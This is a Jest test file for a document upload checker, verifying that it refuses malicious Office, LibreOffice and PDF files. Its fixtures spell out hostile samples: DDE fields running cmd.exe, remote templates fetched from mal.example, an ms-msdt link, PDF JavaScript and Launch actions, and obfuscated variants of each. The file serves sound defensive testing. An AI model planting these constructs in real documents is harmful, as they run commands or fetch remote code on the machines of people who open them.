import { deflateSync } from 'node:zlib';
import { describe, expect, it } from '@jest/globals';
import { InvalidInput, sentenceIn } from '@passerelle/problems';
import fc from 'fast-check';
import {
  anArchive,
  anOfficeDocument,
  anOpenDocument,
  aPdf,
  aPicture,
  sayingThatPartsUnpackTo,
  metadataOfPictures,
} from '../../testing/index.js';
import { checkContent, LARGEST_FILE } from './check-content.js';
import { orientationIn } from './images/orientation.js';

const ruleOf = async (bytes: Buffer): Promise<string> => {
  const error: unknown = await checkContent(bytes).catch((reason: unknown) => reason);
  if (!(error instanceof InvalidInput)) throw error;
  const [field] = error.in('fr').fields;
  expect(field?.message.length).toBeGreaterThan(15);
  return field?.rule ?? '';
};
const latin = (text: string): Buffer => Buffer.from(text, 'latin1');

const relation = (type: string, target: string, mode = 'External'): string =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`;
const related = (part: string, ...text: Parameters<typeof relation>): Buffer =>
  anOfficeDocument('docx', { parts: { [part]: relation(...text) } });
const saying = (document: string): Buffer =>
  anOfficeDocument('docx', { parts: { 'word/document.xml': document } });
const packedPdf = (objects: string, description = '/Type/ObjStm/Filter/FlateDecode'): Buffer =>
  Buffer.concat([
    aPdf().subarray(0, -6),
    latin(`9 0 obj<<${description}/N 1/First 4>>stream\r\n`),
    deflateSync(objects),
    latin('\nendstream endobj\n%%EOF\n'),
  ]);

/** Documents that act when they are opened, each with the rule that refuses it. */
const actingDocuments: [rule: string, name: string, bytes: Buffer][] = [
  [
    'acting_document',
    'an external template',
    related('word/_rels/settings.xml.rels', 'attachedTemplate', 'https://mal.example/t.dotm'),
  ],
  [
    'acting_document',
    'a template on a share',
    related('word/_rels/settings.xml.rels', 'attachedTemplate', 'file:///\\\\mal.example\\t.dotm'),
  ],
  [
    'acting_document',
    'a template on a share, by numbers',
    related('word/_rels/settings.xml.rels', 'attachedTemplate', 'file:///%5C%5Cmal.example/t.dotm'),
  ],
  [
    'acting_document',
    'a template in references to characters',
    related('word/_rels/settings.xml.rels', 'attachedTemplate', 'https://mal.example', '&#69;xternal'),
  ],
  [
    'acting_document',
    'a page in a frame',
    related('word/_rels/webSettings.xml.rels', 'frame', 'C:\\page.html'),
  ],
  [
    'acting_document',
    'an object elsewhere',
    related('word/_rels/document.xml.rels', 'oleObject', 'https://mal.example/!x'),
  ],
  [
    'acting_document',
    'a picture elsewhere',
    related('word/_rels/document.xml.rels', 'image', 'https://mal.example/who.png'),
  ],
  [
    'acting_document',
    'a link that starts a program',
    related('word/_rels/document.xml.rels', 'hyperlink', 'ms-msdt:/id x'),
  ],
  [
    'acting_document',
    'a document brought in',
    related('word/_rels/document.xml.rels', 'aFChunk', 'part.html', 'Internal'),
  ],
  [
    'acting_document',
    'altChunk',
    saying('<w:document><w:body><w:altChunk r:id="r1"/></w:body></w:document>'),
  ],
  [
    'acting_document',
    'DDE',
    saying('<w:p><w:r><w:instrText> DDEAUTO c:\\windows\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'),
  ],
  [
    'acting_document',
    'DDE in pieces',
    saying(
      '<w:p><w:fldChar w:fldCharType="begin"/><w:instrText>D</w:instrText><w:instrText>DE</w:instrText><w:instrText> cmd</w:instrText><w:fldChar w:fldCharType="end"/></w:p>',
    ),
  ],
  ...[
    ['a picture from elsewhere', 'INCLUDEPICTURE &quot;http://mal.example/p.png&quot; \\d'],
    ['a picture from a share', 'INCLUDEPICTURE \\d &quot;\\\\\\\\mal.example\\\\p.png&quot;'],
    ['a document included', 'INCLUDETEXT &quot;http://mal.example/x.docx&quot;'],
    ['a linked sheet', ' LINK Excel.Sheet.12 &quot;\\\\\\\\mal.example\\\\x.xlsx&quot;'],
    ['letters by numbers', 'QUOTE 68 68 69 65 85 84 79 32 99'],
  ].map(([name = '', instruction = '']): (typeof actingDocuments)[number] => [
    'acting_document',
    `${name} in a simple field`,
    saying(`<w:p><w:fldSimple w:instr="${instruction}"/></w:p>`),
  ]),
  ...[
    [
      'a picture from elsewhere, in pieces',
      ['begin', 'INCLUDE', 'PICTURE "htt', 'p://mal.example/p.png"', 'end'],
    ],
    [
      'a picture with a computed address',
      ['begin', 'INCLUDEPICTURE ', 'begin', 'DOCVARIABLE x', 'end', 'end'],
    ],
    ['a linked sheet in pieces', ['begin', 'LI', 'NK Excel.Sheet.12 "x"', 'separate', 'end']],
    [
      'letters by numbers within a field',
      ['begin', 'begin', ' QUOTE 68 68 69 ', 'end', ' c:\\cmd.exe', 'end'],
    ],
    ['DDE around another field', ['begin', 'DD', 'begin', 'QUOTE ""', 'end', 'EAUTO cmd', 'end']],
  ].map(([name, pieces]): (typeof actingDocuments)[number] => [
    'acting_document',
    String(name),
    saying(
      `<w:p>${[...(pieces ?? [])].map((piece) => (/^(?:begin|separate|end)$/.test(piece) ? `<w:fldChar w:fldCharType="${piece}"/>` : `<w:instrText>${piece}</w:instrText>`)).join('')}</w:p>`,
    ),
  ]),
  [
    'acting_document',
    'a template on a share that is said to lie within',
    related('word/_rels/settings.xml.rels', 'attachedTemplate', '\\\\mal.example\\s\\t.dotm', 'Internal'),
  ],
  [
    'acting_document',
    'macros whose part has another name',
    related('word/_rels/document.xml.rels', 'vbaProject', 'data.bin', 'Internal'),
  ],
  ['acting_document', 'DDE in a simple field', saying('<w:fldSimple w:instr="&#68;DE cmd x"/>')],
  [
    'acting_document',
    'DDE in the foot',
    anOfficeDocument('docx', { parts: { 'word/footer1.xml': '<x:instrText>dde cmd</x:instrText>' } }),
  ],
  [
    'acting_document',
    'DDE of Excel',
    anOfficeDocument('xlsx', {
      parts: {
        'xl/externalLinks/externalLink1.xml':
          '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
      },
    }),
  ],
  [
    'acting_document',
    'data that are fetched',
    anOfficeDocument('xlsx', {
      parts: { 'xl/connections.xml': '<connections><connection refreshOnLoad="1"/></connections>' },
    }),
  ],
  [
    'acting_document',
    'a slide that starts a program',
    anOfficeDocument('pptx', {
      parts: { 'ppt/slides/slide1.xml': '<p:sld><a:hlinkClick action="ppaction://program"/></p:sld>' },
    }),
  ],
  [
    'acting_document',
    'DDE within a table within',
    anOfficeDocument('docx', {
      parts: { 'word/embeddings/t.docx': saying('<w:instrText>DDE cmd</w:instrText>') },
    }),
  ],
  [
    'acting_document',
    'DDE of LibreOffice',
    anOpenDocument('spreadsheet', {
      'content.xml': '<x><table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;x&quot;)"/></x>',
    }),
  ],
  [
    'acting_document',
    'a script of LibreOffice',
    anOpenDocument('text', {
      'content.xml': '<x><script:event-listener xlink:href="vnd.sun.star.script:x.py$y?location=share"/></x>',
    }),
  ],
  [
    'acting_document',
    'a picture elsewhere, of LibreOffice',
    anOpenDocument('text', {
      'content.xml': '<x><draw:image xlink:href="https://mal.example/who.png"/></x>',
    }),
  ],
  [
    'damaged',
    'relations in two bytes a character',
    anOfficeDocument('docx', {
      parts: {
        'word/_rels/settings.xml.rels': Buffer.from(
          `\uFEFF${relation('attachedTemplate', 'https://mal.example')}`,
          'utf16le',
        ),
      },
    }),
  ],
  [
    'damaged',
    'a definition in the relations',
    related(
      'word/_rels/settings.xml.rels',
      'attachedTemplate',
      'x"/><!DOCTYPE x [<!ENTITY e "External">]><x y="',
    ),
  ],
  [
    'damaged',
    'two parts that Office takes for one',
    anOfficeDocument('docx', {
      parts: { 'word/_rels/settings.xml.rels': 'x', 'Word/_rels/settings.xml.rels': 'x' },
    }),
  ],
  [
    'macros',
    'a document with macros within',
    anOfficeDocument('docx', {
      parts: {
        'word/embeddings/t.docm': anOfficeDocument('docx', { parts: { 'word/vbaProject.bin': 'x' } }),
      },
    }),
  ],
  ['acting_pdf', 'a PDF with a script', aPdf('x\n9 0 obj<</S/JavaScript/JS(app.alert\\(1\\))>>endobj')],
  ['acting_pdf', 'a PDF with a script by numbers', aPdf('x\n9 0 obj<</S/J#61vaScrip#74/JS(x)>>endobj')],
  ['acting_pdf', 'a PDF that starts a program', aPdf('x\n9 0 obj<</S /Launch/F(cmd.exe)>>endobj')],
  ['acting_pdf', 'a form with scripts', aPdf('x\n9 0 obj<</AcroForm<</XFA 8 0 R>>>>endobj')],
  ['acting_pdf', 'a form with a script in place', aPdf('x\n9 0 obj<</AcroForm<</XFA(<script>)>>>>endobj')],
  ['acting_pdf', 'a PDF that opens another file', aPdf('x\n9 0 obj<</S/GoToR/F(\\\\mal.example)>>endobj')],
  ['acting_pdf', 'a PDF that sends what is typed', aPdf('x\n9 0 obj<</S/SubmitForm/F(http://x)>>endobj')],
  [
    'acting_pdf',
    'an address opened by itself',
    aPdf('x\n9 0 obj<</OpenAction<</S/URI/URI(http://x)>>>>endobj'),
  ],
  [
    'acting_pdf',
    'an address opened with a page',
    aPdf('x\n9 0 obj<</AA<</O<</S/URI/URI(http://x)>>>>>>endobj'),
  ],
  [
    'acting_pdf',
    'an address opened by itself, described elsewhere',
    aPdf('x\n9 0 obj<</OpenAction 8 0 R>>endobj\n8 0 obj<</S/URI/URI(http://x)>>endobj'),
  ],
  ['acting_pdf', 'an attached program', aPdf('x\n9 0 obj<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>endobj')],
  [
    'acting_pdf',
    'an attached program by numbers',
    aPdf('x\n9 0 obj<</EF<</F 6 0 R>>/UF<FEFF0061002E006500780065>>>endobj'),
  ],
  ['damaged', 'a page that begins like a PDF', latin('%PDF-1.4\n<html><script>alert(1)</script>')],
  ['acting_pdf', 'a script in packed objects', packedPdf('1 0 <</S/JavaScript/JS(x)>>')],
  [
    'acting_pdf',
    'a script in packed objects that do not say what they are',
    packedPdf('% x\n1 0 <</S/#4AavaScript/JS(x)>>', '/Filter/FlateDecode'),
  ],
  ['acting_pdf', 'a script behind many zeros', packedPdf(`1 0 ${' '.repeat(100_000)}<</S/JavaScript>>`)],
  ['locked_pdf', 'a PDF that is encrypted', aPdf('x\ntrailer<</Encrypt 9 0 R>>')],
  [
    'locked_pdf',
    'objects packed in another way',
    Buffer.concat([aPdf(), latin('9 0 obj<</Type/ObjStm/Filter/ASCII85Decode>>stream\nabc~>endstream')]),
  ],
  [
    'locked_pdf',
    'objects whose description lies elsewhere',
    Buffer.concat([
      aPdf(),
      latin(`9 0 obj<</Type/ObjStm/X(${'x'.repeat(2_000)})/Filter/LZWDecode>>stream\nabc`),
    ]),
  ],
  ['bomb', 'packed objects that fill the memory', packedPdf(`1 0 ${' '.repeat(60_000_000)}`)],
];

describe('the type of a file', () => {
  it.each([
    ['pdf', aPdf()],
    ['jpeg', aPicture('photo')],
    ['jpeg', aPicture('progressive')],
    ['png', aPicture('png')],
    ['webp', aPicture('webp')],
    ['text', Buffer.from('Nom;Heures\r\nMartin;12\t\r\n')],
    ['text', latin('Réunion du 3 décembre\r\nPrésents : Zoé')],
    ['text', Buffer.from('\uFEFFTrois < quatre, et « a > b »')],
    ['docx', anOfficeDocument('docx')],
    ['xlsx', anOfficeDocument('xlsx', { parts: { 'xl/printerSettings/printerSettings1.bin': 'x' } })],
    ['pptx', anOfficeDocument('pptx', { parts: { 'ppt/embeddings/classeur.xlsx': 'x' } })],
    [
      'docx',
      related(
        'word/_rels/settings.xml.rels',
        'attachedTemplate',
        'file:///C:\\Users\\jean\\Modèles\\Courrier.dotx',
      ),
    ],
    ['docx', related('word/_rels/document.xml.rels', 'hyperlink', 'https://exemple.fr/devis?id=1')],
    ['docx', saying('<w:p><w:instrText> PAGE </w:instrText><w:t>Aide-mémoire DDE</w:t></w:p>')],
    ['docx', related('xl/externalLinks/_rels/x.rels', 'externalLinkPath', 'Tarifs%202026.xlsx')],
    [
      'odt',
      anOpenDocument('text', {
        'content.xml':
          '<x><text:a xlink:href="https://exemple.fr"/><draw:image xlink:href="Pictures/1.png"/></x>',
      }),
    ],
    [
      'docx',
      saying('<w:p><w:fldSimple w:instr="INCLUDEPICTURE &quot;C:\\\\Photos\\\\a.png&quot; \\d"/></w:p>'),
    ],
    ['docx', saying('<w:p><w:fldSimple w:instr="HYPERLINK &quot;https://exemple.fr/&quot;"/></w:p>')],
    ['docx', related('word/_rels/document.xml.rels', 'image', '../media/photo.png', 'Internal')],
    ['docx', related('word/_rels/document.xml.rels', 'hyperlink', '#Feuil1!A1:B2', 'Internal')],
    ['pdf', aPdf('x\n9 0 obj<</OpenAction[3 0 R/Fit]/A<</S/URI/URI(https://exemple.fr)>>>>endobj')],
    ['pdf', aPdf('x\n9 0 obj<</AA<</O 8 0 R>>/A<</S/URI/URI(https://exemple.fr)>>>>endobj')],
    [
      'pdf',
      aPdf('x\n9 0 obj<</Type/Filespec/F(factur-x.xml)/UF(\xfe\xff\0a\0.\0x\0m\0l)/EF<</F 6 0 R>>>>endobj'),
    ],
    ['pdf', packedPdf('1 0 <</Type/Page>>')],
    ['pdf', packedPdf(`q ${'0'.repeat(100_000)} (HTML/JavaScript) Tj`, '/Filter/FlateDecode')],
    ['odt', anOpenDocument('text')],
    ['ods', anOpenDocument('spreadsheet')],
    ['odp', anOpenDocument('presentation')],
  ])('is %s by its content', async (type, bytes) => {
    expect((await checkContent(bytes)).type).toBe(type);
  });

  it.each([
    ['empty', 'nothing', Buffer.alloc(0)],
    ['too_large', 'one byte too many', Buffer.concat([aPdf(), Buffer.alloc(LARGEST_FILE)])],
    ['unknown_type', 'a program', latin('MZ\u0090\u0000\u0003\u0000')],
    ['unknown_type', 'a program of Linux', latin('\u007fELF\u0002')],
    ['unknown_type', 'an archive', anArchive({ 'lisez-moi.txt': 'x' })],
    ['unknown_type', 'a text of two bytes a character', Buffer.from('Bonjour', 'utf16le')],
    ['unknown_type', 'a PDF behind something else', Buffer.concat([latin('GIF89a\u0001'), aPdf()])],
    ['web_page', 'a page', Buffer.from('<!DOCTYPE html><title>x</title>')],
    [
      'web_page',
      'a drawing',
      Buffer.from('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>'),
    ],
    ['web_page', 'a drawing behind words', Buffer.from('Un texte. <svg onload=alert(1)>')],
    ['old_office', 'a document of 1997', latin('\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1')],
    ['heic', 'a photo of a telephone', latin('\u0000\u0000\u0000\u0018ftypheic\u0000\u0000\u0000\u0000')],
    ['macros', 'a document with macros', anOfficeDocument('docx', { parts: { 'word/vbaProject.bin': 'x' } })],
    [
      'macros',
      'macros by another name',
      anOfficeDocument('xlsx', {
        parts: { 'xl/notes.bin': 'x' },
        listed: '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
      }),
    ],
    [
      'macros',
      'macros by a name in references to characters',
      anOfficeDocument('xlsx', {
        parts: { 'xl/notes.bin': 'x' },
        listed: '<Default Extension="bin" ContentType="application/vnd.ms-office.&#118;baProject"/>',
      }),
    ],
    [
      'macros',
      'a program within',
      anOfficeDocument('docx', { parts: { 'word/embeddings/oleObject1.bin': 'x' } }),
    ],
    ['macros', 'macros of LibreOffice', anOpenDocument('text', { 'Basic/Standard/Module1.xml': 'x' })],
    ...actingDocuments,
    ['bomb', 'a bomb', sayingThatPartsUnpackTo(2 ** 31, anOfficeDocument('docx'))],
    [
      'bomb',
      'a list that unpacks to two million characters',
      anOfficeDocument('docx', { listed: ' '.repeat(2_000_000) }),
    ],
    [
      'bomb',
      'an archive of three thousand parts',
      anArchive(Object.fromEntries(Array.from({ length: 3_000 }, (_, i) => [`p${i}`, 'x']))),
    ],
    ['damaged', 'one that says less than it holds', sayingThatPartsUnpackTo(3, anOfficeDocument('docx'))],
    ['damaged', 'half a document', anOfficeDocument('docx').subarray(0, 200)],
    ['damaged', 'half a photo', aPicture('photo').subarray(0, 700)],
    ['damaged', 'half a picture', aPicture('png').subarray(0, 100)],
    ['damaged', 'half a WebP', aPicture('webp').subarray(0, 60)],
  ])('is refused (%s): %s', async (rule, _name, bytes) => {
    expect(await ruleOf(bytes)).toBe(rule);
  });

  it('is found for any bytes, or refused in words', async () => {
    const beginnings = [
      '',
      '%PDF-',
      '\u00ff\u00d8\u00ff',
      '\u0089PNG\r\n\u001a\n',
      'RIFF\u0020\u0000\u0000\u0000WEBP',
      'PK\u0003\u0004',
    ].map(latin);
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...beginnings),
        fc.uint8Array({ maxLength: 400 }),
        async (start, rest) => {
          const error: unknown = await checkContent(Buffer.concat([start, rest])).then(
            () => undefined,
            (reason: unknown) => reason,
          );
          if (error !== undefined) expect(error).toBeInstanceOf(InvalidInput);
        },
      ),
    );
  });

  it('says why in both languages', async () => {
    const error = (await checkContent(Buffer.alloc(0)).catch((reason: unknown) => reason)) as InvalidInput;
    expect([sentenceIn(error.sentence, 'fr'), sentenceIn(error.sentence, 'en')].join()).toMatch(
      /vide.*empty/,
    );
  });
});

describe('a picture', () => {
  it.each(['photo', 'progressive', 'png', 'webp'] as const)(
    '(%s) contains no place, and opens as before',
    async (which) => {
      const before = aPicture(which);
      for (const text of metadataOfPictures.slice(0, 1)) expect(before.includes(text)).toBe(true);
      const { bytes } = await checkContent(before);
      expect(metadataOfPictures.filter((text) => bytes.includes(text))).toEqual([]);
      // A second cleaning changes nothing, so the first removed only metadata.
      expect((await checkContent(bytes)).bytes.equals(bytes)).toBe(true);
      expect(bytes.length).toBeLessThan(before.length);
      expect(bytes.length).toBeGreaterThan(40);
    },
  );

  it('still has its upper side up', async () => {
    const { bytes } = await checkContent(aPicture('photo'));
    const at = bytes.indexOf('Exif');
    expect(orientationIn(bytes.subarray(at))).toBe(6);
  });

  it('loses what was hidden behind its end', async () => {
    for (const which of ['photo', 'png', 'webp'] as const) {
      const { bytes } = await checkContent(
        Buffer.concat([aPicture(which), Buffer.from('<script>Madame Martin')]),
      );
      expect(bytes.includes('Madame Martin')).toBe(false);
    }
  });
});
